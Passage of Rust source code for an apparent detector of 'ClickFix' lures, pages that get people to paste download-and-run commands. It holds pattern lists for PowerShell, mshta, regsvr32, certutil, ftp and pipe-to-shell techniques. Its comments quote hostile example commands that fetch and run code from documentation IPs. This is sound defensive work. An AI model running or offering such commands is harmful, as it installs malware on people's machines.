/// (`python3 -m pip install --index-url http://203.0.113.4/simple/ x && python3 -m x`): the
/// package's code fetched and run, `curl … | python3` by another road (review 40 R40-H2). Where
/// from is judged as for a pipe: a firm's own index on its own site is its docs'. An index on a
/// bare public IP over plain http needs no run after it: pip runs a source package's build code
/// as it installs, and no project publishes so (review 41 R41-H2; devpi on localhost or a
/// mirror on a private address is the person's network).
fn index_run(flat: &str) -> bool {
    let Some(i) = find(flat, " install ") else {
        return false;
    };
    let rest = &flat[i..];
    has(&flat[..i], "pip")
        && has(rest, "://")
        && (has(rest, "index-url") || has(rest, " -i "))
        // (A Python starting a later command: a package may be named `py`.)
        && (["&& py", "; py", ";py"].iter().any(|w| has(rest, w))
            || tokens(rest).iter().any(|t| {
                find(t, "http://").is_some_and(|i| {
                    let h = host_of(&t[i..]);
                    ip_host(&h) && public_host(&h)
                })
            }))
}

/// `deno run -A URL` (`--allow-all`, `--allow-run`): a script fetched and run with every right
/// (review 41 R41-H2). Deno's own examples run with none, or with the network only.
/// `deno eval` runs its code with every right: code fetching and evaluating (or importing) an
/// address is the same fetch-and-run (review 42 CF42-M2).
fn deno_run(flat: &str) -> bool {
    let code = find(flat, "deno eval").map_or("", |i| &flat[i + 9..]);
    has(flat, "deno run")
        && has_url(flat)
        && (has_word(flat, "-a") || has_any(flat, "--allow-all --allow-run"))
        || fetch_run(code)
        || has_url(code) && has(code, "import(")
}

/// A download saved to a Windows path and that same file run later on the line (review 32
/// CF32-M3: the shape, whatever the words). Saved: after an output flag (`-OutFile`, any prefix
/// of it, `-o`, curl's joined `-Lo`/`-sLo`, `--output[=]`, `-Destination`, `>`), as the path after
/// the address (`certutil … URL FILE`, `DownloadFile(URL, FILE)`, `Start-BitsTransfer URL FILE`)
/// or the address's own last part (`curl -O URL`). Run: named by its last path part where a
/// command starts (`; .\r.exe`, `&& %TEMP%\r.exe`, `& "$env:TEMP\r.exe"`, a new line) or after a
/// launcher in its command (`start`, `Start-Process`, `saps`, `ii`, `msiexec /i`, `rundll32`,
/// `cmd /c`, `powershell -f` …); after an archive is unpacked, any program run so.
#[inline(never)]
fn saves_then_runs(flat: &str) -> bool {
    let b = flat.as_bytes();
    let toks = spans(flat);
    // The last four files saved (a space where none: no word is one).
    let mut saved = [" "; 4];
    let mut count = 0;
    let mut unpacked = false;
    // The word that names a file saved is not its run.
    let mut named = 0;
    for (i, &(at, t)) in toks.iter().enumerate() {
        if i == named && i > 0 {
            continue;
        }
        let (next_at, next) = toks.get(i + 1).copied().unwrap_or((flat.len(), ""));
        // The next word is in the same command (no `|`, `;` or `&` between).
        let joined = !b[at + t.len()..next_at].iter().any(|c| b"|;&".contains(c));
        let address = has(t, "://") || bare_host(t).is_some();
        let flag = t.strip_prefix('-').unwrap_or("");
        let (flag, value) = flag.split_at(
            flag.bytes()
                .position(|c| c == b'=' || c == b':')
                .unwrap_or(flag.len()),
        );
        let value = value.get(1..).unwrap_or("");
        let out_flag = !flag.is_empty()
            && (flag.len() > 1 && "outfile".starts_with(flag)
                || has_word("-output -output-document destination", flag)
                || flag.len() < 6
                    && flag.ends_with('o')
                    && flag.bytes().all(|c| c.is_ascii_lowercase()));
        let gt = t.bytes().take_while(|&c| c == b'>').count();
        // The file's path, and how many words on it names (its run is further on).
        let (path, on) = if out_flag && !value.is_empty() {
            (value, 0)
        } else if out_flag && joined || gt == t.len() {
            (next, 1)
        } else if gt > 0 {
            (&t[gt..], 0)
        } else if address && joined && !matches!(next.bytes().next(), Some(b'-' | b'/')) {
            (next, 1)
        } else {
            ("", 0)
        };
        // A Windows path, a PowerShell variable holding one (`-OutFile $p; & $p`), a program or
        // an archive to unpack.
        if path.bytes().any(|c| c == b'\\' || c == b'%')
            || path.starts_with('$')
            || path.ends_with(".zip")
            || runnable(path)
        {
            saved[count % 4] = base_name(path);
            count += 1;
            named = i + on;
            continue;
        }
        if count == 0 || address {
            continue;
        }
        let p = program(t);
        unpacked |= has_word("expand-archive unzip 7z tar", p);
        // The command this word is in starts after the last `;`, `&`, `|`, `(` or `{` before it:
        // run as its first word, or after a launcher.
        let cmd = b[..at]
            .iter()
            .rposition(|c| b";&|({".contains(c))
            .map_or(0, |c| c + 1);
        let launched = b[cmd..at].iter().all(|&c| c == b' ')
            || toks[..i].iter().any(|&(a, l)| {
                a >= cmd
                    && has_word(
                        "start start-process saps ii invoke-item msiexec rundll32 regsvr32 mshta \
                         wscript cscript cmd call powershell pwsh explorer .",
                        program(l),
                    )
            });
        let n = base_name(t);
        if launched && (saved.contains(&n) || unpacked && runnable(n)) {
            return true;
        }
    }
    false
}

/// A path to a file Windows runs when it is opened ([`RUNNABLE`]).
#[inline(never)]
fn runnable(path: &str) -> bool {
    RUNNABLE.iter().any(|e| path.ends_with(e))
}

/// The last part of a path (`$env:TEMP\r.exe`, `https://host/r.exe` → `r.exe`).
#[inline(never)]
fn base_name(t: &str) -> &str {
    &t[t.bytes()
        .rposition(|c| c == b'\\' || c == b'/')
        .map_or(0, |i| i + 1)..]
}

/// Shapes in the flattened text.
fn shapes(flat: &str) -> Vec<Shape> {
    let toks = tokens(flat);
    let prog = |name: &str| runs(&toks, name);
    let mut out = Vec::new();

    // PowerShell: flags can be abbreviated to any unambiguous prefix. Windows' signed
    // `SyncAppvPublishingServer.vbs "n; …"` runs what follows its `;` as PowerShell, hidden.
    let ps = prog("powershell") || prog("pwsh") || has(flat, "syncappvpublishingserver");
    // (`[scriptblock]::Create(…).Invoke()`, `$ExecutionContext.InvokeCommand.InvokeScript(…)`,
    // `&(gcm i*x)`: the same run of fetched text without the word `iex`.)
    let ps_exec = [
        "iex",
        "invoke-expression",
        "invoke-command",
        "icm",
        "scriptblock",
        "invokescript",
        "gcm",
        "get-command",
    ]
    .iter()
    .any(|w| has_word(flat, w));
    let ps_fetch = [
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "downloadstring",
        "downloadfile",
        "downloaddata",
        "net.webclient",
        "start-bitstransfer",
        "system.net.http",
        // A DNS TXT record read as code (`(Resolve-DnsName x -Type TXT).Strings | iex`).
        "resolve-dnsname",
    ]
    .iter()
    .any(|w| has_word(flat, w));
    if ps_fetch && (ps_exec || ps || has_word(flat, "start-process") || saves_then_runs(flat))
        || (ps || ps_fetch) && ps_exec
    {
        out.push(Shape::PowerShellDownload);
    }
    if ps {
        let mut encoded = false;
        let mut hidden = false;
        for w in toks.windows(2) {
            let (flag, val) = (w[0], w[1]);
            if flag.len() >= 2 && flag.starts_with(['-', '/']) {
                let f = &flag[1..];
                if "encodedcommand".starts_with(f) && f.starts_with('e') || f == "ec" {
                    encoded = true;
                }
                if "windowstyle".starts_with(f)
                    && f.starts_with('w')
                    && (val.starts_with('h') || val.starts_with("mi") || val == "1" || val == "2")
                {
                    hidden = true;
                }
            }
        }
        if has_word(flat, "frombase64string") {
            encoded = true;
        }
        if encoded {
            out.push(Shape::PowerShellEncoded);
        }
        if hidden {
            out.push(Shape::PowerShellHidden);
        }
        // A bare name is prose ("Windows PowerShell is a shell"); a command has flags.
        let flagged = toks
            .iter()
            .skip_while(|t| !matches!(program(t), "powershell" | "pwsh"))
            .skip(1)
            .any(|t| t.starts_with('-'));
        if out.is_empty() && flagged {
            out.push(Shape::PowerShell);
        }
    }
    if prog("conhost") && has(flat, "--headless") {
        out.push(Shape::PowerShellHidden);
    }
    if prog("mshta") {
        let inline = has(flat, "vbscript:") || has(flat, "javascript:");
        out.push(if has_url(flat) || inline || public_ip_arg(&toks) {
            Shape::MshtaUrl
        } else {
            Shape::Mshta
        });
    }
    let cmd_switch = toks.windows(3).any(|w| {
        matches!(program(w[0]), "cmd" | "%comspec%")
            && (["/c", "/k", "/r"].contains(&w[1])
                || w[1].starts_with('/') && ["/c", "/k", "/r"].contains(&w[2]))
    });
    let cmd_last = toks.windows(2).any(|w| {
        matches!(program(w[0]), "cmd" | "%comspec%") && ["/c", "/k", "/r"].contains(&w[1])
    });
    if cmd_switch || cmd_last || has(flat, "| cmd") || has(flat, "|cmd") {
        out.push(Shape::Cmd);
    }
    if prog("rundll32") {
        out.push(Shape::Rundll32);
    }
    if prog("regsvr32") && (has(flat, "/i:http") || has(flat, "/i:\\\\") || has(flat, "scrobj")) {
        out.push(Shape::Regsvr32Url);
    }
    if prog("msiexec") && has_url(flat) {
        out.push(Shape::MsiexecUrl);
    }
    // (A `script:` moniker fetches a scriptlet and runs it, whatever runs the line: Windows'
    // signed `pubprn.vbs 127.0.0.1 script:https://…`, thirty-ninth session.)
    if (prog("wscript") || prog("cscript")) && has_url(flat) || has(flat, "script:http") {
        out.push(Shape::ScriptHostUrl);
    }
    // `ftp -s:FILE` runs the FTP commands in FILE: a lure writes them with `echo` (`open
    // 203.0.113.7`, `get r.exe`, `!r.exe` runs it) or serves them from a share; an IT page's
    // scripted upload or download from its own named host echoes no `!` and names no internet
    // address (thirty-ninth session; an `.exe` fetched or a `!` anywhere in the line warned IT
    // pages: review 39 C-M1).
    if prog("ftp")
        && has(flat, " -s:")
        && (has_url(flat)
            || public_ip_arg(
                &toks
                    .iter()
                    .map(|t| t.split('>').next().unwrap_or(t))
                    .collect::<Vec<_>>(),
            )
            || has(flat, "echo !"))
    {
        out.push(Shape::FtpScript);
    }
    if prog("certutil")
        && ["urlcache", "decode", "decodehex", "verifyctl"]
            .iter()
            .any(|f| {
                toks.iter()
                    .any(|t| t.len() > 1 && t.starts_with(['-', '/']) && &t[1..] == *f)
            })
    {
        out.push(Shape::Certutil);
    }
    if prog("bitsadmin") && (has(flat, "/transfer") || has(flat, "/addfile")) {
        out.push(Shape::Bitsadmin);
    }
    if (prog("curl") || prog("wget")) && has_url(flat) && saves_then_runs(flat) {
        out.push(Shape::DownloadStart);
    }
    // The whole text is a path (or `explorer`/`start` and a path) to a share outside the
    // organisation: over WebDAV (`host@SSL`, `DavWWWRoot`), on a bare IP, or naming a script or
    // program, which the Run box starts. (A printer or a folder on a named host is what IT pages
    // give.)
    // (`pushd \\share && start x.bat`, `net use z: \\share && z:\x.cmd`: the share mapped as a
    // drive, then a program run from it. A mapping alone runs nothing: IT pages map their
    // SharePoint library so, `net use z: \\tenant.sharepoint.com@SSL\DavWWWRoot\…`, review 38
    // CX38-H1.)
    let first = toks.first().map_or("", |t| program(t));
    let net = first == "net" && toks.get(1) == Some(&"use");
    let maps = net || first == "pushd";
    let at = usize::from(maps || matches!(first, "explorer" | "start"))
        + usize::from(net)
        + usize::from(net && toks.get(2).is_some_and(|t| t.ends_with(':')));
    // (`search-ms:query=…&crumb=location:\\host@SSL\share`: Explorer lists the share's files as
    // results, a shortcut among them.)
    let search = first.starts_with("search");
    let path = if search {
        unc_at(flat)
    } else {
        toks.get(at).copied().unwrap_or("")
    };
    let host = share_host(path);
    let runnable = runnable(path);
    let lure_share = host.contains('@') || has(path, "davwwwroot") || ip_host(host) || runnable;
    // The Run box passes what follows a program to it: `\\ip\pub\check.exe # I am not a robot`.
    if path.starts_with("\\\\")
        && (!maps && toks.len() <= 1 + at
            || runnable
            || search
            || maps && toks.iter().skip(at + 1).any(|t| self::runnable(t)))
        && lure_share
        && unc_reaches_out(path)
    {
        out.push(Shape::UncOpen);
    }

    // Unix and macOS.
    let fetch = prog("curl") || prog("wget");
    // (`xxd -r -p` turns hex back into the script as `base64 -d` does: thirty-ninth session.)
    let b64 = toks.windows(2).any(|w| {
        program(w[0]) == "base64" && matches!(w[1], "-d" | "-D" | "--decode" | "-di" | "-id")
    }) || prog("xxd") && has(flat, " -r");
    let to_shell = piped_to_shell(flat)
        || runs_saved(flat)
        || ["sh", "bash", "zsh"].iter().any(|s| {
            toks.windows(2)
                .any(|w| program(w[0]) == *s && (w[1] == "-c" || w[1].starts_with("<")))
        });
    // (`eval "$(echo … | base64 -d)"` runs the decoded text as `sh -c` would.)
    if b64 && (to_shell || has_word(flat, "eval")) {
        out.push(Shape::Base64Shell);
    }
    if fetch && has(flat, "chmod +x") {
        out.push(Shape::DownloadExec);
    }
    if prog("osascript") {
        out.push(Shape::Osascript);
    }
    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
        .iter()
        .any(|s| has(flat, s));
    if (fetch || fetch_run(flat)) && (to_shell || substituted) || index_run(flat) || deno_run(flat)
    {
        out.push(Shape::PipeToShell);
    }
    // Strongest first, no duplicates (a sort would add a monomorphised sort to the Wasm).
    let mut ordered = Vec::with_capacity(out.len());
    for s in ALL_SHAPES {
        if out.contains(s) {
            ordered.push(*s);
        }
    }
    ordered
}

/// An argument that is a public IP with no scheme (`mshta 198.51.100.3/v`): mshta fetches it.
/// A dotted quad: a version (`--version 1.2.3`) or a `.` is no address.
fn public_ip_arg(toks: &[&str]) -> bool {
    toks.iter().any(|t| {
        let host = &t[..t
            .bytes()
            .position(|c| c == b'/' || c == b':')
            .unwrap_or(t.len())];
        host.bytes().all(|b| b.is_ascii_digit() || b == b'.')
            && host.bytes().filter(|&b| b == b'.').count() == 3
            && !host.starts_with('.')
            && !host.ends_with('.')
            && !has(host, "..")
            && public_host(host)
    })
}

/// `host` is the registrable domain `site` or under it (a suffix test: `registrable` again would
/// cost Wasm).
fn same_site(host: &str, site: &str) -> bool {
    !site.is_empty()
        && host
            .strip_suffix(site)
            .is_some_and(|h| h.is_empty() || h.ends_with('.'))
}

/// A share host on the page's registrable domain `site`, or whose first label spells the site's
/// name, hyphens aside: a company's SharePoint tenant (`marlowhousing.sharepoint.com@SSL` on
/// marlow-housing.example), which a kit must register per site (review 38 CX38-H3).
fn own_share(host: &str, site: &str) -> bool {
    let host = host.split('@').next().unwrap_or("");
    let name = site.split('.').next().unwrap_or("");
    let label = host.split('.').next().unwrap_or("");
    same_site(host, site)
        || name.len() >= 4
            && label
                .bytes()
                .filter(|&c| c != b'-')
                .eq(name.bytes().filter(|&c| c != b'-'))
}

/// Extensions Windows runs when a path to them is opened.
const RUNNABLE: &[&str] = &[
    ".cmd",
    ".bat",
    ".exe",
    ".scr",
    ".lnk",
    ".vbs",
    ".vbe",
    ".js",
    ".jse",
    ".wsf",
    ".hta",
    ".ps1",
    ".msi",
    ".pif",
    ".cpl",
    ".url",
    ".search-ms",
];

/// Every shape, in the order [`Command::shapes`] lists them.
const ALL_SHAPES: &[Shape] = &[
    Shape::PowerShellDownload,
    Shape::PowerShellEncoded,
    Shape::PowerShellHidden,
    Shape::PowerShell,
    Shape::MshtaUrl,
    Shape::Mshta,
    Shape::Cmd,
    Shape::Rundll32,
    Shape::Regsvr32Url,
    Shape::MsiexecUrl,
    Shape::ScriptHostUrl,
    Shape::Certutil,
    Shape::Bitsadmin,
    Shape::FtpScript,
    Shape::DownloadStart,
    Shape::Base64Shell,
    Shape::DownloadExec,
    Shape::Osascript,
    Shape::PipeToShell,
    Shape::UncOpen,
];

/// Characters a whitespace padding is made of: spaces of any width, invisible characters and
/// Braille blanks (a common "empty" filler).
fn is_pad(c: char) -> bool {
    (c.is_whitespace() && c != '\n' && c != '\r') || is_invisible(c) || c == '\u{2800}'
}

/// Splits `raw` at its longest run of padding that hides what follows: at least
/// [`PAD_BEFORE_COMMENT`] before a `#`/`<#`/`::`/`rem` comment, or [`PAD_ANYWHERE`] anywhere
/// between two parts. Returns (the command, text after) when found: the command is what comes
/// before a comment, or the whole text when the padding hides no comment.
fn split_padding(raw: &str) -> Option<(&str, &str)> {
    let mut best: Option<(usize, usize, usize)> = None; // (count, start, end) in bytes
    let mut run_start = None;
    let mut count = 0;
    for (i, c) in raw.char_indices() {
        if is_pad(c) {
            if run_start.is_none() {
                run_start = Some(i);
                count = 0;
            }
            count += 1;
        } else if let Some(s) = run_start.take() {
            if best.is_none_or(|(n, _, _)| count > n) {
                best = Some((count, s, i));
            }
        }
    }
    let (n, start, end) = best?;
    let (before, after) = (trim(&raw[..start]), trim_start(&raw[end..]));
    if before.is_empty() || after.is_empty() {
        return None;
    }
    let rest = trim_start_by(after, |c| c == '\'' || c == '"');
    let comment = rest.starts_with('#')
        || rest.starts_with("<#")
        || rest.starts_with("::")
        || rest
            .get(..4)
            .is_some_and(|p| p.eq_ignore_ascii_case("rem "));
    // Blanks before the payload itself (`powershell` + 5,000 blanks + `-w h …`) hide no comment:
    // the whole command is what it runs (thirty-ninth session).
    (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT)
        .then_some((if comment { before } else { trim(raw) }, after))
}

/// Whether every address in `flat` is one an install page publishes: `https://` to a host name
/// (not a bare IP); for a Windows command, with no path or a path naming a `.ps1` script or an
/// `.msi` package. Lures fetch `http://203.0.113.5/x`, `/verify`, `/p.txt`, a UNC share.
#[inline(never)]
fn published(flat: &str, windows: bool) -> bool {
    if has(flat, "http:") || unc_reaches_out(flat) || has(flat, "ftp:") {
        return false;
    }
    tokens(flat).iter().all(|t| {
        let Some(i) = find(t, "://") else {
            // No scheme: PowerShell fetches it over http (review 31 MAIN-M1), from a host name
            // or a public IP (`203.0.113.22/r.exe`: review 32 k22).
            return !windows || bare_host(t).is_none() && !(has(t, "/") && public_ip_arg(&[t]));
        };
        let rest = &t[i + 3..];
        let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
        let path = path.split(['?', '#']).next().unwrap_or("");
        let tld_is_name = after_last(host, |c| c == '.')
            .bytes()
            .any(|b| b.is_ascii_alphabetic());
        t[..i].ends_with("https")
            && tld_is_name
            && !borrowed(rest)
            && (!windows || path.len() <= 1 || path.ends_with(".ps1") || path.ends_with(".msi"))
    })
}

/// The registrable domains `flat` fetches from, when every address is `https://` to a host name
/// or has no scheme (empty otherwise). A host that serves anyone's content, a site's upload
/// folder and a redirect are nobody's own site: `-`, which never matches the page's.
#[inline(never)]
fn sites(flat: &str) -> Vec<String> {
    let mut out = Vec::new();
    if published(flat, false) {
        for t in tokens(flat) {
            let at = find(t, "://").map(|i| i + 3);
            if at.is_none() && bare_host(t).is_none() {
                continue;
            }
            let host = host_of(t);
            out.push(
                if is_user_content(&host) || borrowed(&t[at.unwrap_or(0)..]) {
                    String::from("-")
                } else {
                    registrable(&host)
                },
            );
        }
    }
    out
}

/// Whether the copied text is mostly filler: at least [`BURIED_LINES`] lines, three in four the
/// same as the line before but for digits ("REM 000123 ok", "# ──────", dots). A kit buries its
/// command among them so that the Run box or an editor shows none of it (forty-fourth session,
/// review 43 CF43-M1); docs copy one command, or a script whose lines differ.
#[inline(never)]
fn buried(raw: &str) -> bool {
    let (mut lines, mut same, mut prev) = (0, 0, "");
    for l in raw.split('\n').map(trim).filter(|l| !l.is_empty()) {
        let digitless = |t: &str| {
            t.bytes()
                .filter(|b| !b.is_ascii_digit())
                .collect::<Vec<u8>>()
        };
        same += usize::from(digitless(l) == digitless(prev));
        lines += 1;
        prev = l;
    }
    lines >= BURIED_LINES && same * 4 >= lines * 3
}

/// Reads the copied text. `None` when it is not a command this module recognises.
/// (Called for the clipboard and the page's lines: one copy in the Wasm, optimised for size:
/// it reads a copied text or a line starting with a program's name, never a page's prose.)
#[inline(never)]
#[cfg_attr(hangup_size, optimize(size))]
pub fn recognise(raw: &str) -> Option<Command> {
    let mut raw = raw.to_string();
    truncate_utf8(&mut raw, MAX_CLIPBOARD_BYTES);
    let padding = split_padding(&raw);
    let flat = flatten(&raw);
    let shapes = shapes(&flat);
    if shapes.is_empty() {
        return None;
    }
    let windows = shapes.iter().any(|s| s.platform() == Platform::Windows);
    let (cmd_part, tail) = padding.unwrap_or((raw.as_str(), ""));
    // The comment after the padding, or a trailing `# …` on one line, is what the person sees.
    let comment = if !tail.is_empty() {
        tail
    } else {
        // The last ` #` (`rfind`): two such never overlap, so the last one from the left.
        let mut last = None;
        any_match(&raw, " #", &mut |i| {
            last = Some(i);
            false
        });
        last.map(|i| &raw[i + 2..]).unwrap_or("")
    };
    let comment_pretext =
        !comment.is_empty() && pretext_weight(&normalize(comment).skel, None) >= GENERIC_VERIFY;
    Some(Command {
        shapes,
        padded: padding.is_some(),
        buried: buried(&raw),
        remote: has_url(&flat) || has_word(&flat, "finger") || dns_payload(&flat),
        comment_pretext,
        shown: defang(cmd_part),
        comment: defang(first_chars(comment, 60)),
        flat: flatten(cmd_part),
        published: published(&flat, windows),
        https_sites: sites(&flat),
    })
}

/// Weight of verification-pretext phrases in a skeleton (the strongest one counts), and the
/// first one found.
fn pretext_weight(skel: &str, first: Option<&mut Option<(usize, usize)>>) -> f32 {
    let hits = lexicon().find(skel);
    let best = hits
        .iter()
        .filter(|h| h.cat == Cat::VerifyHuman)
        .max_by(|a, b| a.weight.total_cmp(&b.weight));
    if let (Some(slot), Some(h)) = (first, best) {
        *slot = Some((h.start, h.end));
    }
    best.map_or(0.0, |h| h.weight)
}

/// Makes a command safe to show: `http` → `hxxp`, dots between letters or digits → `[.]`,
/// pipes and command separators bracketed, long encoded payloads cut, control characters and
/// padding collapsed, at most [`SHOWN_MAX`] characters with an ellipsis. Pasting the result
/// runs nothing the page meant.
pub fn defang(raw: &str) -> String {
    let mut flat = String::with_capacity(raw.len().min(1024));
    let mut space = false;
    for c in raw.chars().take(2048) {
        if is_invisible(c) {
            continue;
        }
        if c.is_whitespace() || c.is_control() || c == '\u{2800}' {
            space = !flat.is_empty();
            continue;
        }
        if space {
            flat.push(' ');
            space = false;
        }
        flat.push(c);
    }
    let chars: Vec<char> = flat.chars().collect();
    let mut out = String::with_capacity(flat.len() + 16);
    let mut i = 0;
    let mut run = 0; // length of the current base64-looking run
    while i < chars.len() {
        let c = chars[i];
        let prev = i.checked_sub(1).map(|j| chars[j]);
        let next = chars.get(i + 1).copied();
        let b64 = c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
        run = if b64 { run + 1 } else { 0 };
        if run > 24 {
            // An encoded payload: keep its start, drop the rest of the run.
            out.push('…');
            while i < chars.len()
                && (chars[i].is_ascii_alphanumeric() || matches!(chars[i], '+' | '/' | '='))
            {
                i += 1;
            }
            run = 0;
            continue;
        }
        let word = |x: Option<char>| x.is_some_and(|x| x.is_ascii_alphanumeric());
        if matches!(c, 'h' | 'H')
            && chars[i..]
                .iter()
                .take(4)
                .collect::<String>()
                .eq_ignore_ascii_case("http")
        {
            out.push(c);
            out.push('x');
            out.push('x');
            i += 3;
            run = 0;
            continue;
        }
        match c {
            '.' if word(prev) && word(next) => out.push_str("[.]"),
            '|' | ';' | '&' => {
                out.push('[');
                out.push(c);
                out.push(']');
            }
            _ => out.push(c),
        }
        i += 1;
    }
    let cut = first_chars(&out, SHOWN_MAX - 1).len();
    if cut < out.len() {
        out.truncate(cut);
        out.truncate(trim_end(&out).len());
        out.push('…');
    }
    out
}

/// The page's text, normalised, with the lexicon hits ClickFix reads.
pub struct PageHits {
    base: String,
    hits: Vec<Hit>,
    /// The page's text flattened like a command: finds a command the page shows as it copies it.
    flat: String,
    /// The page's registrable domain, when known.
    site: String,
    /// The page's text was cut at the snapshot's bound: what it shows past it is unknown.
    cut: bool,
    /// The page's address is a help section (`support.`/`hilfe.` host, `/kb/`, `/help/` …).
    help: bool,
    /// A page of a few words whose first line is a check's status and none of whose lines names
    /// what it checks (see [`check_status`]).
    status: bool,
    /// The page's visible text (its title aside) is one word at most: a lone button.
    lone: bool,
    /// The page's visible text has a word (a lone page's button names what it does).
    said: bool,
}

/// Whether a flattened line starting with a check stem is a status: the stem ending its word or
/// with a progressive ending ("weryfikacja…", "doğrulanıyor", "xác minh", "確認中", "확인 중입니다"),
/// not a heading naming what it checks ("weryfikacja laptopa", "認証キーの…"). None: no stem.
#[inline(never)]
fn check_status(line: &str) -> Option<bool> {
    let stem = CHECKS.get().split('|').find(|w| line.starts_with(w))?;
    let rest = trim_by(line.get(stem.len()..)?, |c| {
        matches!(c, '.' | '…' | '!' | ' ')
    });
    Some(
        !rest.contains(' ') && !rest.chars().any(is_cjk)
            || STATUS_ENDINGS.get().split('|').any(|e| e == rest),
    )
}

impl PageHits {
    /// Normalises `parts` (title, visible text, alt texts) and finds run instructions and
    /// pretexts. Key combinations are read without spaces around `+` ("Win + R" → "win+r").
    pub fn new<'a>(parts: impl IntoIterator<Item = &'a str>) -> PageHits {
        let mut base = String::new();
        let mut skel = String::new();
        let mut flat = String::new();
        // The first line's status (None before a line), and a line naming what it checks.
        let (mut first, mut object) = (None, false);
        // The second part's (page_of: the visible text's) words, those outside a status line,
        // and whether one is a code block's label.
        let (mut all, mut kept, mut label, mut text) = (0, 0, false, false);
        for (i, p) in parts.into_iter().enumerate() {
            text |= i == 1;
            if trim(p).is_empty() {
                continue;
            }
            flat.push(' ');
            flat.push_str(&flatten(p));
            if flat.len() <= TERSE_PAGE {
                for l in p.split('\n').map(flatten).filter(|l| !l.is_empty()) {
                    let s = check_status(&l);
                    first = first.or(Some(s == Some(true)));
                    object |= s == Some(false);
                    if i == 1 {
                        // (Words: a flattened line's spaces and one.)
                        let n = 1 + l.bytes().filter(|&b| b == b' ').count();
                        all += n;
                        if !(l.ends_with("..") || l.ends_with('…') || s == Some(true)) {
                            kept += n;
                        }
                        label |= LABELS.split(' ').any(|w| has_word(&l, w));
                    }
                }
            }
            let n = normalize(p);
            base.push_str(" \n ");
            skel.push_str(" \n ");
            base.push_str(&n.base);
            skel.push_str(&n.skel);
        }
        let (base, skel) = (join_plus(&base), join_plus(&skel));
        let mut hits: Vec<Hit> = lexicon()
            .find(&skel)
            .into_iter()
            .filter(|h| {
                matches!(
                    h.cat,
                    Cat::RunDialog
                        | Cat::PasteStep
                        | Cat::RunTerminal
                        | Cat::VerifyHuman
                        | Cat::FixPretext
                        | Cat::PageFailure
                        | Cat::InstallDocs
                        | Cat::Troubleshooting
                        | Cat::Scope
                        | Cat::Conditional
                        | Cat::Victim
                        | Cat::Error
                        | Cat::Infection
                        | Cat::System
                        | Cat::Awareness
                        | Cat::WriteUp
                        | Cat::RunShell
                )
            })
            .collect();
        hits.extend(key_combos(&skel));
        let status = flat.len() <= TERSE_PAGE && first == Some(true) && !object;
        PageHits {
            base,
            hits,
            site: String::new(),
            cut: false,
            help: false,
            status,
            // One word, its button, once a line that is a status ("Loading...", "Bitte
            // warten…") or a lone check word ("Verify") is set aside (a heading naming what it
            // checks, "Rechnung überprüfen", is two words); three words at most (a terse page).
            lone: text && flat.len() <= TERSE_PAGE && all <= 3 && kept <= 1,
            // (A code block's label, "bash" or "Windows", says nothing of what the button does.)
            said: all > 0 && !label,
            flat,
        }
    }

    /// The page's address: a command fetching from the page's own site is how a project's
    /// docs publish their installer.
    /// Hosts that serve anyone's content (sites.google.com next to drive.google.com) have no
    /// site of their own here.
    pub fn on(mut self, url: &str) -> PageHits {
        let host = host_of(url);
        if !is_user_content(&host) {
            self.site = registrable(&host);
        }
        // A help section: a help word as a whole host label or path part (support.…, /help/…,
        // /help-center/; not /helpful-links: review 36 CX36-H2), before any query or fragment
        // (the link's sender writes those: review 36 CX36-H3).
        let at = url.bytes().position(|c| c == b'?' || c == b'#');
        let url = &url[..at.unwrap_or(url.len())];
        self.help = "support help hilfe aide ayuda ajuda assistance soporte kb faq"
            .split(' ')
            .any(|w| has_word(url, w));
        self
    }

    /// The page shows the command it copies (a code block next to its copy button): what the
    /// person sees is what they paste. Short commands prove nothing.
    /// A share path is compared without its trailing separator, however short it is.
    fn shows(&self, command: &Command) -> bool {
        if command.shapes.contains(&Shape::UncOpen) {
            let path = unc_at(&command.flat);
            let path = trim_end_by(path, |c| c == '\\' || c == '/');
            return path.len() > 2 && has(&self.flat, path);
        }
        command.flat.len() >= 16 && has(&self.flat, &command.flat)
    }

    /// [`shows`], or the page shows how the copied text starts (32 bytes): a page may add a
    /// line to what a person copies from it ("Read more at …").
    fn shows_head(&self, command: &Command) -> bool {
        let f = &command.flat;
        let mut n = f.len().min(32);
        while !f.is_char_boundary(n) {
            n -= 1;
        }
        self.shows(command) || n >= 16 && has(&self.flat, &f[..n])
    }

    /// The page names `msiexec` in its own words, beside the commands it shows ("msiexec command
    /// line switches"): a reference page explains the tool; a lure only shows its command.
    fn explains_msiexec(&self, command: &Command) -> bool {
        count(&self.flat, "msiexec") > count(&self.flat, &command.flat)
    }

    /// A vendor's own Windows install guide (review 27 H3's other side, review 30 CV-H1): the
    /// page shows the command, says it installs and names no video, film or meeting (a lure's
    /// reason to install: review 29 CP-M1), and the command is the vendor's template, word for
    /// word: `iwr`/`Invoke-WebRequest [-Uri] https://HOST/… -OutFile FILE; Start-Process FILE`
    /// (or `Start-Process msiexec -Wait -ArgumentList /i FILE /qn`). HOST is a domain registered
    /// under a name that starts with the page's registrable name (four letters or more, then
    /// `-` or nothing: `hammer-cdn.test` on hammer.example; not shared hosting), or github.com /
    /// gitlab.com with an owner named so (`github.com/hammer-cli/…`): a domain or an account a
    /// kit must register per site. Nothing else on the line: no variable but `$env:` in the
    /// path, no string method, pipe or parenthesis, no other word, so no second address with or
    /// without a scheme; no share, `..`, `%` or protocol: a kit writes a site's name into a decoy
    /// URL it rewrites or fetches beside its own for free.
    #[inline(never)]
    fn vendor_installer(&self, command: &Command) -> bool {
        let name = self.site.split('.').next().unwrap_or("");
        // `name` starts the label or the owner: `hammer-cdn`, `hammer-cli/`, not `hammerx`.
        let owns = |l: &str| {
            l.strip_prefix(name)
                .is_some_and(|r| matches!(r.bytes().next(), None | Some(b'-' | b'/')))
        };
        let f = &command.flat;
        let toks = tokens(f);
        // (Many guides first turn off the progress bar that slows the download.)
        let toks = toks
            .strip_prefix(&["$progresspreference", "=", "silentlycontinue"][..])
            .unwrap_or(&toks);
        let [v, rest @ ..] = toks else {
            return false;
        };
        let rest = rest.strip_prefix(&["-uri"][..]).unwrap_or(rest);
        let [url, "-outfile", file, "start-process", run @ ..] = rest else {
            return false;
        };
        let Some(addr) = url.strip_prefix("https://") else {
            return false;
        };
        let path = file.strip_prefix("$env:").unwrap_or(file);
        name.len() >= 4
